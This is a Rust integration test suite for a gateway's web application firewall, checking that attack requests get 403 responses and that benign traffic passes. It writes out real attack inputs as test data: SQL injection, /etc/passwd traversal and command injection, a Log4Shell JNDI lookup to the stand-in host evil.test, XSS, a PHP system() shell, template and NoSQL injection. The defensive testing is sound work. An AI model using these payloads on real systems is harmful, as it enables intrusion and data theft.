//! The WAF through real sockets: every rule family in the places an attacker puts it (query,
//! form, multipart field, JSON string with escapes, chunked bodies, cookies, User-Agent, the raw
//! path), each answered 403 with the request id and matched rule ids and never reaching the
//! upstream; benign values with quotes and SQL words forwarded untouched; file contents in
//! multipart not inspected; per-argument and per-family exclusions; detect mode (forwarded,
//! logged and counted); `Expect: 100-continue`; bodies over the inspection limit; HTTP/2 requests
//! (a body in small DATA frames). Both drivers.

mod common;
use common::h2c::*;
use common::*;
use serde_json::Value;

fn waf_config(up: &Upstream, log: &std::path::Path) -> String {
    config(
        "",
        &(format!(
            "[access_log]\nsink = \"file\"\npath = \"{}\"\nflush_interval = \"20ms\"\n\n",
            log.display()
        ) + &upstream_toml("u", &[up.addr], "")
            + &route_toml(
                "block",
                "u",
                "path_prefix = \"/b\"\nwaf = { mode = \"block\", body_limit = \"4KiB\", \
                 exclusions = [{ rules = [\"sqli\"], args = [\"search\", \"notes.*\"] }] }",
            )
            + &route_toml(
                "detect",
                "u",
                "path_prefix = \"/d\"\nwaf = { mode = \"detect\", log_payload = true }",
            )
            + &route_toml(
                "strict",
                "u",
                "path_prefix = \"/s\"\nwaf = { body_limit = 64, body_over_limit = \"reject\", exclude_rules = [\"scanner\"] }",
            )
            + &route_toml("open", "u", "path_prefix = \"/o\"")),
    )
}

fn post(c: &mut Client, path: &str, ct: &str, body: &[u8]) -> Response {
    c.request(&req("POST", path, "a.test", &[("content-type", ct)], body))
}

fn metric(gw: &Gateway, line: &str) -> Option<f64> {
    let m = gw.metrics();
    let l = m.lines().find(|l| l.starts_with(line))?;
    l[line.len()..].trim().parse().ok()
}

#[track_caller]
fn blocked(r: &Response, rule: u64, what: &str) {
    assert_error_json(r, 403);
    let v: Value = r.json();
    let rules: Vec<u64> = v["rules"]
        .as_array()
        .unwrap_or(&vec![])
        .iter()
        .filter_map(Value::as_u64)
        .collect();
    assert!(
        rules.contains(&rule),
        "{what}: rule {rule} not in {}",
        r.body_str()
    );
}

#[test]
fn attacks_are_blocked_wherever_they_hide() {
    let up = Upstream::echo("u");
    let log = temp_path("log");
    let cfg = waf_config(&up, &log);
    for_each_driver(|driver| {
        let gw = Gateway::start(&cfg, driver);
        up.clear();
        let mut c = Client::connect(gw.addr);
        let cases: Vec<(&str, Response, u64)> = vec![
            (
                "query sqli",
                c.get("/b/items?q=1%27%20OR%20%271%27%3D%271", "a.test"),
                942100,
            ),
            (
                "query union",
                c.get(
                    "/b/items?id=1%20UNION%2F**%2FSELECT%20password%20FROM%20users",
                    "a.test",
                ),
                942190,
            ),
            (
                "double-encoded traversal",
                c.get(
                    "/b/f?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                    "a.test",
                ),
                930110,
            ),
            (
                "rce",
                c.get("/b/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "a.test"),
                932100,
            ),
            (
                "log4shell",
                c.get(
                    "/b/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D",
                    "a.test",
                ),
                944100,
            ),
            (
                "form xss",
                post(
                    &mut c,
                    "/b/comments",
                    "application/x-www-form-urlencoded",
                    b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                ),
                941110,
            ),
            (
                "json escaped sqli",
                post(
                    &mut c,
                    "/b/orders",
                    "application/json",
                    br#"{"user":{"name":"x\u0027 OR 1=1--"}}"#,
                ),
                942100,
            ),
            (
                "json html entities",
                post(
                    &mut c,
                    "/b/orders",
                    "application/json",
                    br#"{"bio":"&lt;img src=x onerror=alert(1)&gt;"}"#,
                ),
                941120,
            ),
            (
                "php",
                c.get(
                    "/b/x?cmd=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E",
                    "a.test",
                ),
                933100,
            ),
            (
                "template injection",
                post(
                    &mut c,
                    "/b/x",
                    "application/json",
                    br#"{"t":"{{ self.__init__.__globals__.__builtins__ }}"}"#,
                ),
                934100,
            ),
            (
                "nosql operator in a key",
                post(
                    &mut c,
                    "/b/login",
                    "application/json",
                    br#"{"user":"admin","password":{"$ne":null}}"#,
                ),
                934160,
            ),
        ];
        for (what, r, rule) in &cases {
            blocked(r, *rule, what);
        }
        // a multipart field value is inspected, a file's content is not
        let mp = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n<svg onload=alert(1)>\r\n--XyZ--\r\n";
        blocked(
            &post(
                &mut c,
                "/b/up",
                "multipart/form-data; boundary=XyZ",
                mp.as_bytes(),
            ),
            941110,
            "multipart field",
        );
        let file = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"dump.sql\"\r\nContent-Type: text/plain\r\n\r\nSELECT * FROM users WHERE 1=1; DROP TABLE users;--\r\n--XyZ--\r\n";
        assert_eq!(
            post(
                &mut c,
                "/b/up",
                "multipart/form-data; boundary=XyZ",
                file.as_bytes()
            )
            .status,
            200,
            "[{driver}] file contents pass"
        );
        // chunked JSON, the attack in the second chunk
        let mut raw = b"POST /b/orders HTTP/1.1\r\nHost: a.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        raw.extend(chunked(&[
            b"{\"note\":\"hello\",",
            b"\"q\":\"<script>alert(document.cookie)</script>\"}",
        ]));
        blocked(&c.request(&raw), 941110, "chunked json");
        let cookie = req(
            "GET",
            "/b/x",
            "a.test",
            &[("cookie", "theme=dark; s=' or '1'='1")],
            b"",
        );
        blocked(&c.request(&cookie), 942100, "cookie");
        let agent = req(
            "GET",
            "/b/x",
            "a.test",
            &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
            b"",
        );
        blocked(&c.request(&agent), 913100, "scanner");
        let r = c.get("/b/static/..%2f..%2fetc%2fpasswd", "a.test");
        assert!(
            r.status == 403 || r.status == 400,
            "[{driver}] encoded traversal in the path: {}",
            r.status
        );
        // the next answer on the same connection carries none of the block's rule ids
        let mut c = Client::connect(gw.addr);
        let first = c.get("/b/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "a.test");
        blocked(&first, 941110, "first");
        let r = c.get("/nowhere", "a.test");
        assert_eq!(r.status, 404, "[{driver}]");
        assert!(
            !r.body_str().contains("rules"),
            "[{driver}] {}",
            r.body_str()
        );
        assert_eq!(
            up.request_count(),
            1,
            "[{driver}] only the file upload reached the upstream"
        );
        assert!(
            metric(
                &gw,
                "coregate_waf_requests_total{route=\"block\",action=\"blocked\"} "
            )
            .unwrap()
                >= 12.0
        );
        assert!(
            metric(
                &gw,
                "coregate_waf_matches_total{route=\"block\",family=\"sqli\"} "
            )
            .unwrap()
                >= 3.0,
            "[{driver}]"
        );
    });
}

#[test]
fn benign_traffic_passes_untouched_and_exclusions_apply() {
    let up = Upstream::echo("u");
    let log = temp_path("log");
    let cfg = waf_config(&up, &log);
    for_each_driver(|driver| {
        let gw = Gateway::start(&cfg, driver);
        up.clear();
        let mut c = Client::connect(gw.addr);
        let body = br#"{"name":"Jane O'Brien","note":"Please select the red one & drop the blue -- thanks :)","markdown":"**bold** and `code`, 5 < 6","search":"union station"}"#;
        let r = post(&mut c, "/b/orders", "application/json", body);
        assert_eq!(r.status, 200, "[{driver}] {}", r.body_str());
        assert_eq!(r.body, body, "[{driver}] the upstream got the body as sent");
        let r = c.get(
            "/b/search?q=O%27Reilly%20books&sort=price-asc&email=jane%40example.com",
            "a.test",
        );
        assert_eq!(r.status, 200, "[{driver}]");
        // the same payload: excluded for `search` and under `notes.`, blocked elsewhere
        assert_eq!(
            c.get("/b/s?search=1%27%20or%20%271%27%3D%271", "a.test")
                .status,
            200,
            "[{driver}]"
        );
        let ok = post(
            &mut c,
            "/b/o",
            "application/json",
            br#"{"notes":{"a":"1' or '1'='1"}}"#,
        );
        assert_eq!(ok.status, 200, "[{driver}] {}", ok.body_str());
        assert_eq!(
            c.get("/b/s?other=1%27%20or%20%271%27%3D%271", "a.test")
                .status,
            403,
            "[{driver}]"
        );
        // the exclusion covers SQLi only
        assert_eq!(
            c.get("/b/s?search=%3Cscript%3Ealert(1)%3C/script%3E", "a.test")
                .status,
            403,
            "[{driver}]"
        );
        // a route without a WAF forwards anything
        assert_eq!(
            c.get("/o/x?q=1%27%20or%20%271%27%3D%271", "a.test").status,
            200,
            "[{driver}]"
        );
        // the strict route excludes the scanner family
        let agent = req(
            "GET",
            "/s/x",
            "a.test",
            &[("user-agent", "Nikto/2.1.6")],
            b"",
        );
        assert_eq!(c.request(&agent).status, 200, "[{driver}]");
        assert_eq!(up.request_count(), 6, "[{driver}]");
    });
}

#[test]
fn detect_mode_forwards_logs_and_counts() {
    let up = Upstream::recording("u");
    let log = temp_path("log");
    let cfg = waf_config(&up, &log);
    for_each_driver(|driver| {
        let _ = std::fs::remove_file(&log);
        let gw = Gateway::start(&cfg, driver);
        up.clear();
        let mut c = Client::connect(gw.addr);
        let r = c.get("/d/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "a.test");
        assert_eq!(r.status, 200, "[{driver}] detect mode forwards");
        assert_eq!(up.request_count(), 1);
        assert_eq!(
            metric(
                &gw,
                "coregate_waf_requests_total{route=\"detect\",action=\"detected\"} "
            ),
            Some(1.0)
        );
        let rid = r.header("x-request-id").unwrap();
        let mut line = Value::Null;
        wait_until(deadline(secs(10)), || {
            let text = std::fs::read_to_string(&log).unwrap_or_default();
            text.lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .any(|v| {
                    let hit = v["request_id"] == rid.as_str();
                    if hit {
                        line = v;
                    }
                    hit
                })
        });
        let waf = line["waf"].as_str().unwrap_or_default();
        assert!(
            waf.starts_with("detected:") && waf.contains("941"),
            "[{driver}] {line}"
        );
        assert_eq!(
            line["waf_match"], "q=<script>alert(1)</script>",
            "[{driver}] log_payload"
        );
    });
}

#[test]
fn bodies_continue_and_limits() {
    let up = Upstream::echo("u");
    let log = temp_path("log");
    let cfg = waf_config(&up, &log);
    for_each_driver(|driver| {
        let gw = Gateway::start(&cfg, driver);
        up.clear();
        // Expect: 100-continue: the gateway asks for the body, inspects it, forwards it
        let mut c = Client::connect(gw.addr);
        let body = br#"{"id":7,"name":"D'Angelo"}"#;
        c.send(format!("POST /b/o HTTP/1.1\r\nHost: a.test\r\nContent-Type: application/json\r\nContent-Length: {}\r\nExpect: 100-continue\r\n\r\n", body.len()).as_bytes());
        let cont = c.read_head_raw().expect("100 Continue");
        assert_eq!(cont.status, 100, "[{driver}]");
        c.send(body);
        let r = c.read_response();
        assert_eq!((r.status, &r.body[..]), (200, &body[..]), "[{driver}]");
        // over the strict route's 64-byte limit: 413 before the upstream
        let big = format!("{{\"pad\":\"{}\"}}", "a".repeat(100));
        let r = post(&mut c, "/s/o", "application/json", big.as_bytes());
        assert_eq!(r.status, 413, "[{driver}]");
        // over the block route's 4 KiB limit: the first 4 KiB are inspected, the rest streams
        let mut c = Client::connect(gw.addr);
        let tail = format!(
            "{{\"a\":\"{}\",\"b\":\"<script>alert(1)</script>\"}}",
            "x".repeat(5000)
        );
        assert_eq!(
            post(&mut c, "/b/o", "application/json", tail.as_bytes()).status,
            200,
            "[{driver}] partial"
        );
        let head = format!(
            "{{\"b\":\"<script>alert(1)</script>\",\"a\":\"{}\"}}",
            "x".repeat(5000)
        );
        assert_eq!(
            post(&mut c, "/b/o", "application/json", head.as_bytes()).status,
            403,
            "[{driver}]"
        );
        // a body that says JSON but is not: refused (920130)
        let mut c = Client::connect(gw.addr);
        blocked(
            &post(&mut c, "/b/o", "application/json", b"{\"a\": [1, 2"),
            920130,
            "malformed json",
        );
        assert_eq!(up.request_count(), 2, "[{driver}]");
    });
}

#[test]
fn http2_requests_meet_the_same_waf() {
    let up = Upstream::echo("u");
    let log = temp_path("log");
    let cfg = waf_config(&up, &log);
    for_each_driver(|driver| {
        let gw = Gateway::start(&cfg, driver);
        up.clear();
        let (attack, clean, body) = with_h2(gw.addr, |mut send| async move {
            let attack = h2_request(
                &mut send,
                h2_get("/b/x?q=%3Cscript%3Ealert(1)%3C/script%3E"),
                b"",
                1024,
            )
            .await
            .expect("h2 answer");
            let post = || {
                http::Request::post("http://a.test/b/orders")
                    .header("content-type", "application/json")
                    .body(())
                    .unwrap()
            };
            let bad: &[u8] = br#"{"q":"1' UNION SELECT password FROM users--"}"#;
            let good: &[u8] = br#"{"name":"Jane O'Brien","qty":2}"#;
            let body = h2_request(&mut send, post(), bad, 7)
                .await
                .expect("h2 answer");
            let clean = h2_request(&mut send, post(), good, 5)
                .await
                .expect("h2 answer");
            (attack, clean, body)
        });
        assert_eq!(attack.status, 403, "[{driver}] {}", attack.body_str());
        assert!(
            attack.body_str().contains("\"rules\":[941"),
            "[{driver}] {}",
            attack.body_str()
        );
        assert_eq!(
            body.status,
            403,
            "[{driver}] a body in 7-byte DATA frames: {}",
            body.body_str()
        );
        assert_eq!(
            (clean.status, clean.body_str().as_str()),
            (200, r#"{"name":"Jane O'Brien","qty":2}"#),
            "[{driver}]"
        );
        assert_eq!(up.request_count(), 1, "[{driver}]");
    });
}
